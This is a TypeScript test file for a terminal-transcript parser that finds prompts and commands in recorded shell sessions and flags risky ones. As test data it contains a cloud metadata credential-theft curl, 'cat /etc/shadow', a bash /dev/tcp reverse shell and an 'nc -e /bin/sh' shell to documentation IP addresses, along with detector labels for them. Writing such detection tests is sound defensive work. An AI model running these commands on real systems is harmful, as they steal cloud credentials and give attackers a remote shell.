import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { annotateCommands, createCommandDetector, splitPrompt } from '#shared/transcript/commands';
import { normaliseLines } from '#shared/transcript/terminal';
import type { TranscriptLine } from '#shared/transcript/types';
import { timeRatio } from '../helpers/timing';

const ESC = '\u001b';
/** What bash readline writes right before its prompt: window title, bracketed paste on. */
const MARK = `${ESC}]0;root@ip-10-0-1-23:~\u0007${ESC}[?2004h`;
const IMDS = 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web';

/** Screen lines of a transcript, as the scan builds them (normalised, prompt marks kept). */
function screen(raw: string[]): TranscriptLine[] {
  return normaliseLines(raw).map((l, i) => {
    const line: TranscriptLine = { n: i + 1, text: l.text, erased: l.erased };
    if (l.marks) line.prompt = { marks: l.marks };
    return line;
  });
}

/** The command the annotator finds on each line (undefined: output). */
function commands(raw: string[]): Array<string | undefined> {
  const lines = screen(raw);
  annotateCommands(lines);
  return lines.map((l) => l.command);
}

describe('prompt shapes', () => {
  it.each([
    ['[ssm-user@ip-10-0-1-23 ~]$ id', '[ssm-user@ip-10-0-1-23 ~]$ '],
    ['sh-5.2$ id', 'sh-5.2$ '],
    ['bash-4.2# id', 'bash-4.2# '],
    ['ubuntu@ip-10-0-1-23:~/app$ id', 'ubuntu@ip-10-0-1-23:~/app$ '],
    ['dev@mac ~ % id', 'dev@mac ~ % '],
    ['PS C:\\Users\\ssm-user> id', 'PS C:\\Users\\ssm-user> '],
    ['PS> id', 'PS> '],
    ['~ # id', '~ # '],
    ['/ # id', '/ # '],
    ['/var/log $ id', '/var/log $ '],
    ['alpine:~# id', 'alpine:~# '],
    ['C:\\Users\\ssm-user>id', 'C:\\Users\\ssm-user>'],
    ['ec2-app-role[root@ip-10-0-1-23 ~]# id', '[root@ip-10-0-1-23 ~]# '],
    ['ip-10-0-1-23% id', 'ip-10-0-1-23% '],
    ['ip-10-0-1-23# id', 'ip-10-0-1-23# '],
    ['ssm-user$ id', 'ssm-user$ '],
    ['ssm-user@ip-10-0-1-23 ~> id', 'ssm-user@ip-10-0-1-23 ~> '],
    ['root@ip-10-0-1-23 /var/log> id', 'root@ip-10-0-1-23 /var/log> '],
    ['❯ id', '❯ '],
    ['➜  ~ id', '➜  ~ '],
    ['➜  app git:(main) ✗ id', '➜  app git:(main) ✗ '],
  ])('%s: prompt %s, with or without the bare rule', (text, prompt) => {
    for (const options of [{}, { bare: '$#' }]) {
      const split = splitPrompt(text, options);
      expect(split?.prompt).toBe(prompt);
      expect(split?.command).toBe('id');
    }
  });

  it.each(['$ id', '# id'])('%s is a prompt only when the caller allows bare prompts', (text) => {
    expect(splitPrompt(text)).toBeUndefined();
    expect(splitPrompt(text, { bare: '$#' })?.command).toBe('id');
    expect(splitPrompt(text, { bare: text[0] === '$' ? '#' : '$' })).toBeUndefined();
  });

  it.each([
    'total 92',
    'mail bob@example.com # x',
    'costs US$ 5 a month',
    'a C# program',
    'see bob@example.com for details> x',
    '2 > 1',
    '100% done',
    '   $ indented runbook line',
    '#',
    '$',
  ])('no prompt on: %s', (text) => {
    expect(splitPrompt(text, { bare: '$#' })).toBeUndefined();
  });

  it('takes a bare prompt after output only where the shell marked it', () => {
    expect(splitPrompt(`  "Code": 1}# ${IMDS}`, { bare: '$#' })).toBeUndefined();
    expect(splitPrompt(`  "Code": 1}# ${IMDS}`, { marks: [12] })?.command).toBe(IMDS);
    // A mark somewhere else does not make any `# ` a prompt.
    expect(splitPrompt(`  "Code": 1}# ${IMDS}`, { marks: [3] })).toBeUndefined();
    // A host-like word then `# ` at the start of a line is zsh's default root prompt, mark or not.
    expect(splitPrompt(`ec2-app-role# ${IMDS}`)?.command).toBe(IMDS);
  });
});

describe('the bare prompt rule (commands.ts, rule 3)', () => {
  it('finds every command of a dash session, the root shell after sudo -s too', () => {
    expect(commands(['$ id', 'uid=1001(ssm-user)', '$ sudo -s', '# cat /etc/shadow', 'root:x:0:'])).toEqual([
      'id',
      undefined,
      'sudo -s',
      'cat /etc/shadow',
      undefined,
    ]);
  });

  it('reads comments shown by a printer as text, and finds the next prompt', () => {
    expect(
      commands([
        '$ cat /etc/login.defs',
        '# useradd is a low level utility and should be as general',
        '# /etc/shadow entries.',
        'PASS_MAX_DAYS 99999',
        '$ sudo -s',
        `# ${IMDS}`,
      ]),
    ).toEqual(['cat /etc/login.defs', undefined, undefined, undefined, 'sudo -s', IMDS]);
  });

  it('reads `$ ` and `# ` lines shown by a printer or pager at a decorated prompt as text', () => {
    for (const viewer of [
      'cat RUNBOOK.md',
      'sudo cat RUNBOOK.md | grep -v x',
      'less -R RUNBOOK.md',
      'vim RUNBOOK.md',
      'git log -p',
      'grep -n x RUNBOOK.md | less',
    ]) {
      expect(commands([`[u@h ~]$ ${viewer}`, `$ ${IMDS}`, '# cat /etc/shadow', '[u@h ~]$ id'])).toEqual([
        viewer,
        undefined,
        undefined,
        'id',
      ]);
    }
  });

  it('ends a pager output at its shell escape, on screen or erased', () => {
    for (const shellEscape of [['!sh'], [':!/bin/sh'], [':shell'], [`!sh\r${ESC}[K`]]) {
      expect(commands(['[u@h ~]$ less notes.md', '# Title', ...shellEscape, `$ ${IMDS}`]).at(-1)).toBe(IMDS);
    }
  });

  it('applies the same rule to busybox prompts at the start of a line', () => {
    expect(commands(['[u@h ~]$ cat /etc/fstab', '/dev/xvda1 # root volume', '/ # id'])).toEqual([
      'cat /etc/fstab',
      undefined,
      undefined,
    ]);
    expect(commands(['/ # cat /etc/fstab', '/dev/xvda1 # root volume'])).toEqual([
      'cat /etc/fstab',
      'root volume',
    ]);
  });

  it('keeps prompts after commands that are not plain printers', () => {
    for (const cmd of [
      'cat a; sudo sh',
      'cat $(id)',
      'awk 1 x',
      'sudo -u bob cat x',
      'cat x^C',
      'python3 x.py',
      "vim -c ':!sh' notes.md",
      "git -c alias.x='!sh' x",
      'man -P sh ls',
      'less +!sh notes.md',
    ]) {
      expect(commands([`$ ${cmd}`, `# ${IMDS}`]).at(-1)).toBe(IMDS);
    }
  });

  it('cannot tell comments from commands in a session whose prompt is a bare `# ` (reads them as commands)', () => {
    expect(commands(['# cat /etc/ssh/sshd_config', '# PermitRootLogin no', '$ sudo su -'])).toEqual([
      'cat /etc/ssh/sshd_config',
      'PermitRootLogin no',
      'sudo su -',
    ]);
    // `$ ` lines it prints are text: the session's prompt is `# `.
    expect(commands(['# cat RUNBOOK.md', '$ sudo su -', '# id'])).toEqual([
      'cat RUNBOOK.md',
      undefined,
      'id',
    ]);
  });

  it('carries the printed-text state to the next delivery through the stored context lines', () => {
    const first = screen(['$ cat /etc/login.defs', '# a comment']);
    annotateCommands(first);
    // The carry-over store keeps the last lines as JSON.
    const context: TranscriptLine[] = JSON.parse(JSON.stringify(first));
    const next = screen(['# /etc/shadow entries.', `$ ${IMDS}`, '# cat /etc/shadow']);
    const lines = [...context, ...next.map((l) => ({ ...l, n: l.n + 2 }))];
    annotateCommands(lines, context.length);
    expect(lines.slice(2).map((l) => l.command)).toEqual([undefined, IMDS, 'cat /etc/shadow']);
  });

  it('takes a marked bare prompt after output without a newline', () => {
    const raw = ['# curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'];
    raw.push(
      `${ESC}[?2004lec2-app-role${MARK}# ${IMDS}`,
      `}${MARK}# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1^C`,
    );
    const lines = screen(raw);
    annotateCommands(lines);
    expect(lines.map((l) => l.command)).toEqual([
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      IMDS,
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    ]);
    expect(lines[2]!.cancelled).toBe(true);
    const kinds = createCommandDetector()
      .scan(lines, {})
      .map((d) => `${d.line} ${d.kind}`);
    expect(kinds).toEqual(['1 IMDS_CREDENTIAL_ACCESS', '2 IMDS_CREDENTIAL_ACCESS', '3 REVERSE_SHELL']);
  });

  it('joins a continuation line after a bare prompt', () => {
    const [first, second] = commands(['$ nc -e /bin/sh \\', '> 203.0.113.9 4444']);
    expect(first).toBe('nc -e /bin/sh \\');
    expect(second).toMatch(/^nc -e \/bin\/sh +203\.0\.113\.9 4444$/);
  });

  it('gives the same commands when the lines are annotated again', () => {
    const lines = screen(['$ cat x', '# y', '$ id', '# z']);
    annotateCommands(lines);
    const once = JSON.stringify(lines);
    annotateCommands(lines);
    expect(JSON.stringify(lines)).toBe(once);
  });
});

describe('prompt finding is linear in the line', () => {
  const repeat = (unit: string, n: number) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
  const shapes: Record<string, (n: number) => string> = {
    'bare prompt + word run': (n) => `$ ${'a'.repeat(n)}`,
    'output + bare prompt + word run': (n) => `x$ ${'a'.repeat(n)}`,
    'curl repeated': (n) => repeat('curl ', n),
    'a@ repeated': (n) => repeat('a@', n),
    '[ repeated': (n) => repeat('[', n),
    'PS C:\\ + run': (n) => `PS C:\\${'a'.repeat(n)}`,
    'user@host: + run': (n) => `user@host:${'a'.repeat(n)}`,
    'prompt ends everywhere': (n) => repeat('@b:x$ ', n),
    'PowerShell near-misses': (n) => `${repeat('PS C:\\x ', n)}> `,
    'version near-misses': (n) => repeat('1.sh-1.', n),
    'fish near-misses': (n) => repeat('a@b ~x> ', n),
    'oh-my-zsh theme + run': (n) => `➜  ${'a'.repeat(n)}`,
    'oh-my-zsh git near-miss': (n) => `➜  ~ git:(${'a'.repeat(n)}`,
  };

  it.each(Object.keys(shapes))('%s: 4x the line costs at most 8x the time', (name) => {
    const make = shapes[name]!;
    const run = (text: string) => () => {
      splitPrompt(text, { bare: '$#', marks: [1, 5] });
      annotateCommands([{ n: 1, text, erased: [] }]);
    };
    const n = 128 * 1024;
    expect(timeRatio(run(make(n)), run(make(4 * n)))).toBeLessThanOrEqual(8);
  });
});

describe('splitPrompt on arbitrary text', () => {
  const pieces = fc.constantFrom(
    '$ ',
    '# ',
    '% ',
    '> ',
    '@',
    ':',
    '[',
    ']',
    '~',
    '/',
    '\\',
    'PS ',
    'C:\\',
    'sh-5.2',
    'user@host',
    ' ',
    'x',
  );
  const text = fc.oneof(
    fc.string(),
    fc.array(fc.oneof(pieces, fc.string({ maxLength: 4 })), { maxLength: 40 }).map((p) => p.join('')),
  );

  it('never throws; the prompt and command are the end of the line', () => {
    fc.assert(
      fc.property(
        text,
        fc.constantFrom('', '$', '#', '$#'),
        fc.array(fc.integer({ min: -2, max: 80 }), { maxLength: 4 }),
        (t, bare, marks) => {
          const split = splitPrompt(t, { bare, marks });
          if (split) {
            expect(t.endsWith(split.command)).toBe(true);
            expect(t.endsWith(split.prompt + split.command)).toBe(true);
            expect(split.prompt.length).toBeGreaterThan(0);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });
});
